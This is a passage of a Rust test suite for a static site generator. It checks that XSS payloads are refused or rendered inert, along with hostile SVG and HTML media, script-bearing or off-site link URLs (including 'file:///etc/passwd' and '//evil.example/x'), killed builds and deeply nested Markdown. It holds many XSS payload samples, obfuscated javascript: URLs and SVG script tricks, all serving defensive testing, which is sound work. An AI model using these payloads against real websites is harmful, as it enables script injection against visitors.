                {
                    problems.push(format!("`{attr}=\"{value}\"` on <{name}>"));
                }
                if LOADS.contains(&attr.as_str())
                    && (url.starts_with("http:")
                        || url.starts_with("https:")
                        || url.starts_with("//"))
                {
                    problems.push(format!(
                        "a request to another host: `{attr}=\"{value}\"` on <{name}>"
                    ));
                }
            }
        }
    }
    problems
}

fn files_under(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in fs::read_dir(&d).expect("read dir") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path
                    .strip_prefix(dir)
                    .expect("under dir")
                    .to_string_lossy()
                    .replace('\\', "/");
                out.push((rel, fs::read(&path).expect("read")));
            }
        }
    }
    out.sort();
    out
}

/// Issue 8, item 1: every payload in every field either is refused by
/// `check` with a located error, or is built and inert in every output
/// file: HTML pages, the Atom feed (whose HTML is checked after
/// unescaping), the JSON data and search files (which must parse), SVG.
#[test]
fn xss_payloads_in_every_field_never_reach_the_site_active() {
    let site = Site::fixture("full");
    let markers: Vec<String> = (0..XSS_PAYLOADS.len())
        .map(|i| format!("XSS{i:02}"))
        .collect();
    for (i, payload) in XSS_PAYLOADS.iter().enumerate() {
        let payload = payload.replace("{M}", &markers[i]);
        site.write(
            &format!("content/cases/xss-{i:02}.md"),
            &xss_case(&payload, &markers[i]),
        );
    }
    let page: String = XSS_PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| format!("{}\n\n", p.replace("{M}", &markers[i])))
        .collect();
    site.write(
        "content/pages/xss.md",
        &format!(
            "---\ntitle: {}\nsummary: {}\n---\n{page}",
            serde_json::to_string(&markers.join("<script>")).expect("json"),
            "\"</title><script>alert('XSS')</script>\""
        ),
    );
    // Payloads that `check` refuses (image sources on another host or in a
    // data: URL) are set aside, each refusal naming its file.
    let (_, diags, _) = check_json(&site);
    let refused: Vec<usize> = (0..XSS_PAYLOADS.len())
        .filter(|i| {
            diags.iter().any(|d| {
                d["severity"] == "error"
                    && d["file"] == format!("content/cases/xss-{i:02}.md").as_str()
            })
        })
        .collect();
    let other_errors: Vec<&Value> = diags
        .iter()
        .filter(|d| {
            d["severity"] == "error"
                && !d["file"]
                    .as_str()
                    .is_some_and(|f| f.starts_with("content/cases/xss-"))
        })
        .collect();
    assert!(other_errors.is_empty(), "{other_errors:?}");
    for i in &refused {
        fs::remove_file(site.path(&format!("content/cases/xss-{i:02}.md")))
            .expect("remove refused");
    }
    let built = XSS_PAYLOADS.len() - refused.len();
    assert!(
        built >= 40,
        "only {built} payloads get past check; refused: {refused:?}"
    );
    let out = run(site.cmd(&["build"]));
    assert_eq!(out.code, 0, "{}", out.stderr);

    let mut problems = Vec::new();
    let mut seen = vec![false; XSS_PAYLOADS.len()];
    for (file, bytes) in files_under(&site.path("public")) {
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        for (i, m) in markers.iter().enumerate() {
            seen[i] |= text.contains(m.as_str());
        }
        let ext = file.rsplit('.').next().unwrap_or("");
        let mut found = match ext {
            "html" | "svg" => active_in_page(&text, &markers),
            "json" => match serde_json::from_str::<Value>(&text) {
                Ok(_) => Vec::new(),
                Err(e) => vec![format!("not JSON: {e}")],
            },
            "xml" => feed_problems(&text, &markers),
            "js" => [
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "document.write",
                "eval(",
                "new Function",
            ]
            .iter()
            .filter(|sink| text.contains(*sink))
            .map(|sink| format!("script uses `{sink}`"))
            .collect(),
            _ => Vec::new(),
        };
        if ext == "html" && !has_strict_csp(&text) {
            found.push(
                "no Content-Security-Policy with default-src 'self' and no unsafe-inline".into(),
            );
        }
        problems.extend(found.into_iter().map(|p| format!("{file}: {p}")));
    }
    problems.truncate(40);
    assert!(
        problems.is_empty(),
        "{} active payloads:\n{}",
        problems.len(),
        problems.join("\n")
    );
    let unseen: Vec<&String> = markers
        .iter()
        .zip(&seen)
        .filter(|(_, s)| !**s)
        .map(|(m, _)| m)
        .collect();
    let unseen_built: Vec<&&String> = unseen
        .iter()
        .filter(|m| !refused.iter().any(|i| &&markers[*i] == *m))
        .collect();
    assert!(
        unseen_built.is_empty(),
        "built payloads whose marker appears nowhere (is the test blind?): {unseen_built:?}"
    );
    eprintln!(
        "xss: {} payloads, each in 13 front-matter fields and 5 places in the body; {} refused by check, {built} built; 0 active",
        XSS_PAYLOADS.len(),
        refused.len()
    );
}

fn has_strict_csp(html: &str) -> bool {
    scan_tags(html).iter().any(|t| {
        t.name == "meta"
            && t.attrs.iter().any(|(a, v)| {
                a == "http-equiv" && v.eq_ignore_ascii_case("content-security-policy")
            })
            && t.attrs.iter().any(|(a, v)| {
                a == "content" && v.contains("default-src 'self'") && !v.contains("unsafe-inline")
            })
    })
}

/// The feed must be well-formed XML, and the HTML it carries (escaped in
/// `content` and `summary`) must be as inert as the pages.
fn feed_problems(xml: &str, markers: &[String]) -> Vec<String> {
    use quick_xml::Reader;
    use quick_xml::events::Event;
    let mut reader = Reader::from_str(xml);
    let mut problems = Vec::new();
    loop {
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(Event::Text(t)) => {
                let text = t.decode().map(|c| c.into_owned()).unwrap_or_default();
                let text = quick_xml::escape::unescape(&text)
                    .map(|c| c.into_owned())
                    .unwrap_or(text);
                problems.extend(
                    active_in_page(&text, markers)
                        .into_iter()
                        .filter(|p| !p.starts_with("element <<")),
                );
            }
            Ok(_) => {}
            Err(e) => {
                problems.push(format!("not well-formed XML: {e}"));
                break;
            }
        }
    }
    problems
}

/// A URL as a browser's URL parser reads its scheme (WHATWG URL): C0
/// controls and spaces trimmed from both ends, tabs and newlines removed
/// everywhere, ASCII lower-cased. Other characters (U+2028, NBSP) stay and
/// make the scheme invalid, so the URL is relative and harmless.
fn browser_url(value: &str) -> String {
    value
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Every file of a built site by path, with a hash of its bytes.
fn snapshot(dir: &Path) -> std::collections::BTreeMap<String, u64> {
    use std::hash::{DefaultHasher, Hash, Hasher};
    files_under(dir)
        .into_iter()
        .map(|(rel, bytes)| {
            let mut h = DefaultHasher::new();
            bytes.hash(&mut h);
            (rel, h.finish())
        })
        .collect()
}

/// Leftover staging and backup folders of killed builds beside `public`.
fn leftovers(root: &Path) -> Vec<String> {
    fs::read_dir(root)
        .expect("read root")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".public.casebook-"))
        // The spare site and the manifest every build keeps for the next.
        .filter(|n| n != ".public.casebook-previous" && n != ".public.casebook-manifest")
        .collect()
}

/// Issue 8, item 4: `build` killed with SIGKILL at many points leaves the
/// output folder as the old site or the new one, whole; the next build
/// removes the staging folders the killed ones left. From the third build
/// on, each rewrites the spare site the one before it left, so kills also
/// land while that is being rewritten.
#[test]
fn build_killed_at_any_point_leaves_the_old_site_or_the_new_one() {
    const KILLS: u32 = 12;
    let site = Site::fixture("full");
    // Enough cases that a build takes a while, so kills land in every stage.
    let text = site.read("content/cases/bodo-alle-felt.md");
    for i in 0..20 {
        site.write(&format!("content/cases/kopi-{i:03}.md"), &text);
    }
    let site_yaml = site.read("content/site.yaml");
    let variant = |n: usize| {
        // Both variants change every page (the title is in each header).
        site.write(
            "content/site.yaml",
            &site_yaml.replacen("title: ", &format!("title: Variant {n} – "), 1),
        );
    };
    let bin = assert_cmd::cargo::cargo_bin("casebook");
    let build = || {
        let status = std::process::Command::new(&bin)
            .arg("--root")
            .arg(site.root())
            .arg("build")
            .stderr(std::process::Stdio::null())
            .status()
            .expect("run build");
        assert!(status.success(), "uninterrupted build failed");
    };
    let public = site.path("public");
    let mut sites = Vec::new();
    let started = std::time::Instant::now();
    for n in 0..2 {
        variant(n);
        build();
        sites.push(snapshot(&public));
    }
    let full = started.elapsed() / 2;
    assert_ne!(sites[0], sites[1]);
    let mut current = 1; // the site now in `public`
    let mut outcomes = [0u32; 2]; // killed with the old site kept, the new one in place
    let mut left_behind = 0; // staging folders seen right after a kill
    for k in 0..KILLS {
        let target = 1 - current;
        variant(target);
        // Kill points spread over the whole run, from the first instant
        // to well past an uninterrupted build.
        let delay = full.mul_f64(1.6 * f64::from(k) / f64::from(KILLS));
        let mut child = std::process::Command::new(&bin)
            .arg("--root")
            .arg(site.root())
            .arg("build")
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("spawn build");
        std::thread::sleep(delay);
        let _ = child.kill(); // SIGKILL; an error means it had already exited
        child.wait().expect("reap build");
        assert!(
            public.is_dir(),
            "kill {k} after {delay:?}: no output folder at all"
        );
        left_behind += leftovers(site.root()).len();
        let now = snapshot(&public);
        if now == sites[current] {
            outcomes[0] += 1;
        } else if now == sites[target] {
            outcomes[1] += 1;
            current = target;
        } else {
            let old: std::collections::BTreeSet<_> = sites[current].keys().collect();
            let new: std::collections::BTreeSet<_> = sites[target].keys().collect();
            let got: std::collections::BTreeSet<_> = now.keys().collect();
            panic!(
                "kill {k} after {delay:?}: the output is neither site ({} files; {} not in the old, {} not in the new)",
                now.len(),
                got.difference(&old).count(),
                got.difference(&new).count()
            );
        }
    }
    let left = leftovers(site.root());
    variant(1 - current);
    build();
    assert_eq!(snapshot(&public), sites[1 - current]);
    assert_eq!(
        leftovers(site.root()),
        Vec::<String>::new(),
        "left by killed builds: {left:?}"
    );
    assert!(
        left_behind > 0,
        "no kill left a staging folder: the kills missed the build"
    );
    eprintln!(
        "kill: {KILLS} builds killed (a full build takes {full:?}): {} kept the old site, {} had swapped in the new one; \
         {left_behind} staging folders seen after kills, all removed by later builds",
        outcomes[0], outcomes[1]
    );
}

/// Media are published under the site's own origin: a reader sent to an
/// SVG or HTML file itself would run its scripts as the site. `check`
/// refuses them, naming the file and what was found; plain SVG passes.
#[test]
fn active_svg_and_html_in_media_are_refused() {
    let site = Site::fixture("full");
    let svg = |inner: &str| {
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 4 4\">{inner}</svg>")
    };
    let files = [
        ("skript.svg", svg("<script>alert(1)</script>"), "`<script>`"),
        (
            "stor-skript.svg",
            svg("<SCRIPT>alert(1)</SCRIPT>"),
            "`<script>`",
        ),
        (
            "navnerom.svg",
            svg("<svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">alert(1)</svg:script>"),
            "`<script>`",
        ),
        (
            "onload.svg",
            svg("<rect width=\"4\" height=\"4\" onload=\"alert(1)\"/>"),
            "event handler (`onload`)",
        ),
        (
            "onclick.svg",
            svg("<rect width=\"4\"\n  ONCLICK = \"alert(1)\"/>"),
            "event handler (`onclick`)",
        ),
        (
            "lenke.svg",
            svg("<a href=\"javascript:alert(1)\"><rect width=\"4\"/></a>"),
            "`javascript:`",
        ),
        (
            "kodet.svg",
            svg("<a href=\"&#106;ava&#x09;script&#58;alert(1)\"><rect width=\"4\"/></a>"),
            "`javascript:`",
        ),
        (
            "xlink.svg",
            svg("<a xlink:href=\"  JavaScript:alert(1)\"><rect width=\"4\"/></a>"),
            "`javascript:`",
        ),
        (
            "html-i-svg.svg",
            svg(
                "<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>",
            ),
            "foreignObject",
        ),
        (
            "animert.svg",
            svg(
                "<a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><rect width=\"4\"/></a>",
            ),
            "`javascript:`",
        ),
        (
            "entitet.svg",
            format!(
                "<!DOCTYPE svg [<!ENTITY a \"&#60;scr\"><!ENTITY b \"ipt>alert(1)&#60;/script>\">]>{}",
                svg("&a;&b;")
            ),
            "entity declaration",
        ),
        ("side.html", "<script>alert(1)</script>".into(), "HTML file"),
        (
            "side.XHTML",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>".into(),
            "HTML file",
        ),
        (
            "data.xml",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>".into(),
            "`<script>`",
        ),
    ];
    for (name, text, _) in &files {
        site.write(&format!("content/media/{name}"), text);
    }
    site.write("content/media/ren.svg", &svg("<title>Helt vanlig tegning on top</title><rect width=\"4\" height=\"4\" fill=\"#1a5c8a\"/>"));
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    for (name, _, what) in &files {
        assert_diag(
            find(&diags, &format!("content/media/{name}")),
            "error",
            "active-media",
            what,
        );
    }
    let clean: Vec<&Value> = diags
        .iter()
        .filter(|d| d["file"] == "content/media/ren.svg" || d["file"] == "content/media/pixel.svg")
        .collect();
    assert!(clean.is_empty(), "a plain SVG was refused: {clean:?}");
    assert_build_refuses(&site);
}

/// Link URLs that could run script or leave http(s) are refused by `check`
/// at their line, so they never reach the build.
#[test]
fn hostile_link_urls_are_refused_at_their_line() {
    let site = Site::fixture("minimal");
    let urls = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//evil.example/x",
        "https:javascript:alert(1)",
        "https://x.example/\"><script>alert(1)</script>",
        "https://x.example/ onmouseover=alert(1)",
        "https://x.example/\u{2028}x",
    ];
    let links: String = urls
        .iter()
        .enumerate()
        .map(|(i, u)| {
            format!(
                "  - {{ title: L{i}, url: {} }}\n",
                serde_json::to_string(u).expect("json")
            )
        })
        .collect();
    let text = site.read(CASE).replace(
        "links:\n  - { title: Reportasje, url: https://www.ks.no/molde }\n",
        &format!("links:\n{links}"),
    );
    site.write(CASE, &text);
    let first = text
        .lines()
        .position(|l| l.contains("title: L0"))
        .expect("links")
        + 1;
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    for (i, url) in urls.iter().enumerate() {
        let line = (first + i) as u64;
        let d = diags
            .iter()
            .find(|d| d["line"].as_u64() == Some(line))
            .unwrap_or_else(|| {
                panic!("`{url}` (line {line}) was accepted; got {}", pretty(&diags))
            });
        assert_eq!(d["code"], "invalid-link", "{d}");
    }
}

/// The HTML sanitiser takes time quadratic in how deeply elements nest: a
/// 64 KB body of `>` took two minutes to build. `check` (and so `build`)
/// refuses text nested deeper than 32 levels, at the line where it passes
/// the limit, in the body, a Markdown field, a measure and a page.
#[test]
fn deeply_nested_markdown_is_refused_before_it_can_stall_the_build() {
    let site = Site::fixture("full");
    let front = site.read("content/cases/aevre-minimal.md");
    let close = front.rfind("---\n").expect("closing fence");
    site.write(
        "content/cases/sitat.md",
        &format!(
            "{}Innledning.\n\n{}\n",
            &front[..close + 4],
            ">".repeat(64_000)
        ),
    );
    let divs = serde_json::to_string(&"<div>".repeat(5_000)).expect("json");
    let deep_fields = front
        .replacen(
            "  Kommunen manglet fagarbeidere.\n",
            "  Kommunen manglet fagarbeidere.\nanchoring: DIVS\n",
            1,
        )
        .replacen(
            "  - Lærlingplasser i alle enheter.\n",
            "  - Lærlingplasser i alle enheter.\n  - DIVS\n",
            1,
        )
        .replace("DIVS", &divs);
    site.write("content/cases/div.md", &deep_fields);
    site.write(
        "content/pages/liste.md",
        &format!("---\ntitle: Liste\n---\n{}x\n", "> - ".repeat(2_000)),
    );
    // At the limit is fine.
    site.write(
        "content/pages/grense.md",
        &format!("---\ntitle: Grense\n---\n{}x\n", "> ".repeat(16)),
    );
    let (code, diags, _) = check_json(&site);
    assert_eq!(code, 1);
    let too_deep = |file: &str| {
        diags
            .iter()
            .find(|d| d["file"] == file && d["code"] == "markdown-too-deep")
            .unwrap_or_else(|| panic!("no markdown-too-deep for {file}: {}", pretty(&diags)))
    };
    let quote = too_deep("content/cases/sitat.md");
    assert_diag(
        quote,
        "error",
        "markdown-too-deep",
        "more than 32 levels deep",
    );
    let line = front[..close + 4].lines().count() as u64 + 3;
    assert_eq!(quote["line"].as_u64(), Some(line), "{quote}");
    let div: Vec<(u64, &str)> = diags
        .iter()
        .filter(|d| d["file"] == "content/cases/div.md" && d["severity"] == "error")
        .map(|d| {
            (
                d["line"].as_u64().unwrap_or(0),
                d["code"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        div,
        [(10, "markdown-too-deep"), (15, "markdown-too-deep")],
        "anchoring on line 10, the measure on 15"
    );
    assert_diag(
        too_deep("content/pages/liste.md"),
        "error",
        "markdown-too-deep",
        "32 levels",
    );
    assert!(
        !diags.iter().any(|d| d["file"] == "content/pages/grense.md"),
        "{}",
        pretty(&diags)
    );
    assert_build_refuses(&site);
}
